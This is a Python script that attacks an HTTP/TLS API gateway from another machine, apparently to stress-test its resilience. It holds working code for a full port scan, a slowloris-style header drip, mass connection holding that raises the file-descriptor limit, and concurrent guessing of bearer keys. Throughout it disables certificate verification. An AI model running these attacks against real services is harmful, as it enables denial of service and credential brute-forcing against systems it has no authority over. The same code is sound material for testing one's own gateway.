"""Attacks a gateway from another machine. Standard library only.

outside.py scan HOST              prints the open TCP ports
outside.py send HOST PORT [TLS]   reads requests on standard input, one base64 text a line, and prints the status of
                                  each answer, 0 for a connection that was closed without one
outside.py slow|hold|guess HOST PORT COUNT   too much of one thing at once, always over TLS; a good request comes on
                                  standard input and is sent meanwhile:
    slow    sends COUNT requests drop by drop; prints the good one's status and the seconds until all were cut off
    hold    opens COUNT connections and sends nothing; prints the good one's status and how many stood at that moment
    guess   asks with COUNT wrong keys; prints the good one's status and each of theirs
"""

from __future__ import annotations

import base64
import re
import resource
import selectors
import socket
import ssl
import sys
import time
from concurrent.futures import ThreadPoolExecutor

AT_ONCE = 400
WORKERS = 64
LONGEST_SECONDS = 60


def scan(host: str) -> list[int]:
    found, waiting, ports = [], 0, iter(range(1, 65536))
    selector = selectors.DefaultSelector()
    is_over = False
    while not is_over or waiting:
        while waiting < AT_ONCE and not is_over:
            port = next(ports, None)
            if port is None:
                is_over = True
                break
            connection = socket.socket()
            connection.setblocking(False)
            connection.connect_ex((host, port))
            selector.register(connection, selectors.EVENT_WRITE, port)
            waiting += 1
        for key, _ in selector.select(5):
            if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                found.append(key.data)
            selector.unregister(key.fileobj)
            key.fileobj.close()
            waiting -= 1
    return sorted(found)


def connect(host: str, port: int, tls: bool = True) -> socket.socket:
    connection: socket.socket = socket.create_connection((host, port), timeout=8)
    return ssl._create_unverified_context().wrap_socket(connection) if tls else connection


def send(host: str, port: int, tls: bool, request: bytes) -> int:
    try:
        connection = connect(host, port, tls)
        connection.sendall(request)
        answer = b""
        while b"\r\n" not in answer:
            data = connection.recv(4096)
            if not data:
                break
            answer += data
        connection.close()
    except OSError:
        return 0
    status = re.match(rb"HTTP/1\.[01] (\d{3})", answer)
    return int(status.group(1)) if status else 0


def slow(host: str, port: int, count: int, good: bytes) -> tuple[object, ...]:
    def drops(_: int) -> float:
        started = time.monotonic()
        try:
            connection = connect(host, port)
            connection.settimeout(1)
            connection.sendall(b"GET /v1/models HTTP/1.1\r\nHost: x\r\n")
            while time.monotonic() - started < LONGEST_SECONDS:
                connection.sendall(b"X-A: b\r\n")
                try:
                    if not connection.recv(4096):
                        break
                except TimeoutError:
                    continue
        except OSError:
            pass
        return time.monotonic() - started

    with ThreadPoolExecutor(count) as pool:
        cut = [pool.submit(drops, index) for index in range(count)]
        time.sleep(2)
        status = send(host, port, True, good)
        return status, round(max(one.result() for one in cut))


def hold(host: str, port: int, count: int, good: bytes) -> tuple[object, ...]:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    with ThreadPoolExecutor(WORKERS) as pool:
        held = list(pool.map(lambda _: connect(host, port), range(count)))
    status = send(host, port, True, good)
    for connection in held:
        connection.setblocking(False)

    def stands(connection: socket.socket) -> bool:
        try:
            return connection.recv(1) != b""
        except ssl.SSLWantReadError:
            return True
        except OSError:
            return False

    return status, sum(map(stands, held))


def guess(host: str, port: int, count: int, good: bytes) -> tuple[object, ...]:
    asked = "GET /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer tdm-{}\r\nConnection: close\r\n\r\n"
    with ThreadPoolExecutor(WORKERS) as pool:
        statuses = list(pool.map(lambda index: send(host, port, True, asked.format(index).encode()), range(count)))
    return send(host, port, True, good), *statuses


def main(verb: str, host: str, *more: str) -> None:
    if verb == "scan":
        print(*scan(host))
        return
    requests = [base64.b64decode(line) for line in sys.stdin]
    if verb != "send":
        print(*{"slow": slow, "hold": hold, "guess": guess}[verb](host, int(more[0]), int(more[1]), requests[0]))
        return
    with ThreadPoolExecutor(4) as pool:
        print(*pool.map(lambda request: send(host, int(more[0]), len(more) > 1, request), requests))


if __name__ == "__main__":
    main(*sys.argv[1:])
